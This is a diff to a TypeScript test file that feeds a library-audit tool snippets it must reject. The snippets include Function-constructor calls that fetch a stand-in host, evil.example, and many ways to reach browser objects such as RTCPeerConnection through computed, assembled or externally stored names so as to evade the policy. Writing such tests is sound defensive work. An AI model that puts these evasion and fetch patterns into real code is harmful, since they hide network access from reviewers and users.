@@ -1,6 +1,7 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are scripts
 /** Attacks that hide behind what the audit lets pass in libraries. None may be approved. */
 import { END, loads, modules, type RelaxedCase, script, several } from './relaxed-case.ts';
+import { smallApp } from './small-app.ts';
 
 const EVIL = "'https://evil.example/'";
 
@@ -46,6 +47,34 @@ export const RELAXED_CASES: readonly RelaxedCase[] = [
     `Function("a = fetch(${EVIL.replaceAll("'", '`')})", "return 1")();`,
     `Function("return this; fetch(${EVIL.replaceAll("'", '`')})")();`,
   ),
+  ...script(
+    'a name that may be one that the policy does not cover',
+    'new window[document.title]();',
+    "Host.storage.get('k').then((k) => new window[k]());",
+    "Host.storage.get('k').then((k) => { const C = window[k]; new C({ iceServers: [] }); });",
+    'class A extends window[document.title] {}\nnew A();',
+    'Reflect.construct(window[document.title], []);',
+    'const { [document.title]: C } = window;\nnew C();',
+    'const C = Reflect.get(window, document.title);\nnew C();',
+    "try { throw 1; } catch (k) { var k = 'RTCPeerConnection'; new window[k](); }",
+    'for (const n of Object.getOwnPropertyNames(window)) if (n.length === 17) k(window[n]);',
+    'for (const n in window) if (n.length === 17) k(window[n]);',
+    'Object.values(window).forEach((C) => k(C));',
+    'Object.entries(Object.getOwnPropertyDescriptors(window)).map(([n, { value }]) => k(value));',
+    "let n = 'RTC';\nn += 'PeerConnection';\nk(window[n]);",
+    "const [a, b] = ['rtc', 'PeerConnection'];\nk(window[k(a, b)]);",
+    "const n = '\\x52TCP' + k();\nk((n) => window[n]);",
+    "k(window, 'webkitRTC', 'PeerConnection');",
+    'const k = document.title;\nwindow[k].postMessage(1, "*");',
+    "const k = document.title;\nwindow[k] = 'text';",
+  ),
+  {
+    by: 'a name in another file that the policy does not cover',
+    files: smallApp({
+      'app.js': `function run(n) { return window[n]; }\nk(run);${END}`,
+      'names.json': '["RTCPeerConnection"]',
+    }),
+  },
   ...script(
     'a branch for where there is no JSON',
     'typeof JSON < "u" && JSON.parse ? 0 : new Function("go()")();',
